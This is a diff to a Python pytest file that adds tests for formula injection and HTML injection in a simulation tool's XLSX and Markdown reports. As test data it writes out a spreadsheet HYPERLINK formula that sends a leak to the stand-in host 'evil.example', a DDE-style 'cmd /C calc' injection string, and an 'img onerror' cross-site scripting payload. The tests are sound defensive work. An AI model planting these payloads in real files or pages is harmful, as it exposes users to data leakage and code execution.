@@ -61,9 +61,9 @@ def test_markdown_has_every_probability_and_reason(folder):
     table = pd.read_csv(folder / "targets.csv")
     md = (folder / "targets.md").read_text(encoding="utf-8")
     for r in table[table["status"] == "evaluated"].itertuples():
-        assert T.fmt_pm(r.probability, r.mc_se) in md
+        assert T.md_text(T.fmt_pm(r.probability, r.mc_se)) in md     # "<0.1%" as "&lt;0.1%"
     for r in table[table["status"] != "evaluated"].itertuples():
-        assert r.target_id in md and r.reason.replace("|", "\\|") in md
+        assert r.target_id in md and T.md_text(r.reason).replace("|", "\\|") in md
     assert md.count("\n|---") >= 3
 
 
@@ -124,3 +124,46 @@ def test_print_summary_still_works(folder, capsys):
     T.print_summary(table, folder)
     out = capsys.readouterr().out
     assert "P(target met)" in out and "gdp_2020_fyp13" in out
+
+
+# --- issue 14: text from user files is never a formula (XLSX) nor markup (Markdown) ----------
+EVIL_FORMULA = '=HYPERLINK("http://evil.example/?leak","click me")'
+EVIL_HTML = '"><img src=x onerror=alert(1)>'
+
+
+@pytest.mark.slow
+def test_xlsx_never_holds_a_formula_and_keeps_numbers(folder, make_dataset, tmp_path):
+    from sim.output.xlsx import write_xlsx
+
+    table = pd.read_csv(folder / "targets.csv")
+    ne = table["status"] != "evaluated"
+    table.loc[ne, "reason"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    labels = {"baseline": EVIL_FORMULA, "faster": "+1-2"}
+    plan = T.plan_table(table, make_dataset(), scenario_labels=labels)
+    path = write_xlsx(plan, table, tmp_path / "t.xlsx", scenario_labels=labels,
+                      provenance={"note": "=1+1", "draws": 300})
+    wb = load_workbook(path)
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert texts.count(EVIL_FORMULA) == (table["scenario"] == "baseline").sum()  # text survives
+    assert f"{EVIL_FORMULA} baseline" in [c.value for c in wb["达标概率 P(met)"][1]]  # a header
+    assert "=1+1" in texts and "+1-2" in texts
+    # numbers stay numbers
+    ws = wb["评估表 Evaluation"]
+    j = [c.value for c in ws[1]].index("达标概率 P(met)") + 1
+    p = [ws.cell(row=i, column=j) for i in range(2, ws.max_row + 1)]
+    assert any(c.data_type == "n" and isinstance(c.value, float) for c in p)
+
+
+@pytest.mark.slow
+def test_markdown_escapes_html_and_pipes(folder, make_dataset):
+    table = pd.read_csv(folder / "targets.csv")
+    table.loc[table["status"] != "evaluated", "reason"] = f"bad {EVIL_HTML} a|b & c"
+    labels = {"baseline": EVIL_HTML, "faster": "<b>bold</b>"}
+    plan = T.plan_table(table, make_dataset(), scenario_labels=labels)
+    md = T.markdown(plan, table, title="<script>x</script>", scenario_labels=labels)
+    assert "<img" not in md and "<script>" not in md and "<b>" not in md
+    assert "&lt;img src=x onerror=alert(1)&gt;" in md and "&lt;b&gt;bold&lt;/b&gt;" in md
+    assert "a\\|b &amp; c" in md
+    assert T.md_table(["h"], [["x|y<z"]]).splitlines()[-1] == "| x\\|y&lt;z |"
